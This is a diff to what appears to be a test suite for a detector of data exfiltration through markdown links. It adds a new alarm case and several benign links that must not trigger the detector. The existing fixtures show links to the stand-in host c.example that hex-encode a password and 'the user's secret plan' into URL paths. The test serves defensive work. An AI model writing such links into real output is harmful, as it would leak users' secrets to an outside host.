@@ -80,6 +80,7 @@ describe("what carries data out is an alarm", () => {
     `[x](https://c.example/p#diff-${Buffer.from("pw=Kj7!xQz2").toString("hex")}L9)`,
     `[x](https://c.example/0${Buffer.from("the user's secret plan").toString("hex")}/p)`,
     `[x](https://c.example/${Buffer.from("der geheime Plan für morgen").toString("hex")}/p)`,
+    "[x](https://c.example/p?d=h4upKq81mZt0Vb2Rc9Xw%C3%A9)",
   ])("%s", (text) => {
     expect(alarms(text)).toEqual(["markup.exfiltration"]);
     expect(cleaned(text)).toContain("c.example");
@@ -88,6 +89,9 @@ describe("what carries data out is an alarm", () => {
 
   test.each([
     "![build](https://img.shields.io/badge/build-passing-brightgreen.svg?style=flat-square)",
+    "[try it](https://play.example/?target=6#code/MYGwhgzhAECSAmICmBlJAnAbgS2E6A3gFDTTwD2AcuQC4AW2AdgOYAUAlA)",
+    "[why](https://git.example/wiki/How-to-write-a%E2%80%93rule's-name-%60so%E2%80%93that%60-it-holds)",
+    "[ça](https://w.example/wiki/La-m%C3%A9thode-des-%C3%A9l%C3%A8ves-d'autrefois-et-d'aujourd'hui)",
     "[x](https://d.example/a?utm_source=newsletter&utm_campaign=spring-sale-2026&ref=mail)",
     "https://git.example/acme/app/commit/0f3a9c7e5b1d28640f3a9c7e5b1d28640f3a9c7e",
     "[x](https://git.example/acme/app/compare/0f3a9c7e5b1d28640f3a9c7e5b1d28640f3a9c7e...b1d28640f3a9c7e5b1d28640f3a9c7e50f3a9c7e)",
